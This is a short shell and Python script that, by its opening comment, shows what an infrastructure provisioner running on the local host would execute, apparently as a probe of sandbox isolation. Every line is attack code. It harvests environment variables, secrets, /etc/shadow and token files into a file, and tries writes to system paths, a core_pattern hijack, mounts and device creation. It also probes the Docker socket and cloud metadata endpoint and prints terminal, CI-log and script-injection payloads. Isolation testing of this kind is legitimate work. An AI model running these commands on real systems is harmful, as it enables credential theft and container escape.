# What a local-exec provisioner, or a task with delegate_to: localhost, would run.
{
  env
  cat /proc/*/environ /proc/*/cmdline /run/secrets/* /etc/shadow /root/.* /work/../*.txt
  find / -xdev -name '*TOKEN*' -o -xdev -name 'docker.sock'
} > secret.txt 2>/dev/null
for place in / /usr/bin /etc /opt/mde /sys/fs/cgroup /proc/sys/kernel; do
  echo planted > "$place/planted" 2>/dev/null && echo "wrote to $place"
done
echo '|/work/main/run.sh' > /proc/sys/kernel/core_pattern 2>/dev/null
mount -t tmpfs none /work 2>/dev/null && echo mounted
mknod disk b 8 0 2>/dev/null && echo made a device
python3 - <<'PYTHON'
import os, socket, struct

def gateway():
    for line in open("/proc/net/route").read().splitlines()[1:]:
        words = line.split()
        yield socket.inet_ntoa(struct.pack("<L", int(words[1], 16) + 0x01000000))

for host in [*gateway(), "172.17.0.1", "host.docker.internal", "1.1.1.1", "169.254.169.254"]:
    for port in (47113, 2375, 22, 80):
        try:
            socket.create_connection((host, port), 0.15)
            print("reached", host, port)
        except OSError:
            pass
for path in ("/var/run/docker.sock", "/run/docker.sock"):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print("reached", path)
    except OSError:
        pass
PYTHON
ln -s /etc/passwd report.txt
printf '\033]0;owned\007::error::owned\n</pre><script>alert(1)</script>\n'
